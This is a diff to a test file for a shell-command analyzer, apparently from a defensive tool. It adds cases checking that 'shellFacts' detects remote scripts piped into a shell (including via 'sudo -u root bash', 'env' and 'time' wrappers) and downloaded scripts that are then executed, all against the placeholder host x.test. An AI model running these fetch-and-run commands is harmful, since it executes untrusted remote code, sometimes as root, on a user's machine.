@@ -14,6 +14,9 @@ describe("shellFacts", () => {
     ["grep 'curl|sh' notes.txt", false],
     ["curl -o out.json https://x.test/api | jq .", false],
     ["cat install.sh | sh", false],
+    ["curl -s https://x.test/i.sh | sudo -u root bash", true],
+    ["curl -s https://x.test/i.sh | env -i PATH=/bin sh", true],
+    ["curl -s https://x.test/i.sh | time -p bash", true],
   ])("pipesRemoteToShell(%s) = %s", (line, expected) => {
     expect(shellFacts(line).pipesRemoteToShell).toBe(expected);
   });
@@ -22,6 +25,8 @@ describe("shellFacts", () => {
     expect(shellFacts("curl -o f https://x.test/i.sh && sh f").executesDownloadedScript).toBe(true);
     expect(shellFacts("wget https://x.test/i.sh; chmod +x i.sh; ./i.sh").executesDownloadedScript).toBe(true);
     expect(shellFacts("curl -o f https://x.test/i.sh && cat f").executesDownloadedScript).toBe(false);
+    expect(shellFacts("curl -s https://x.test/i.sh > i.sh; bash i.sh").executesDownloadedScript).toBe(true);
+    expect(shellFacts("curl -s https://x.test/i.sh >i.sh && bash ./i.sh").executesDownloadedScript).toBe(true);
     expect(shellFacts("curl -o f https://x.test/i.sh && sh f").pipesRemoteToShell).toBe(false);
   });
 
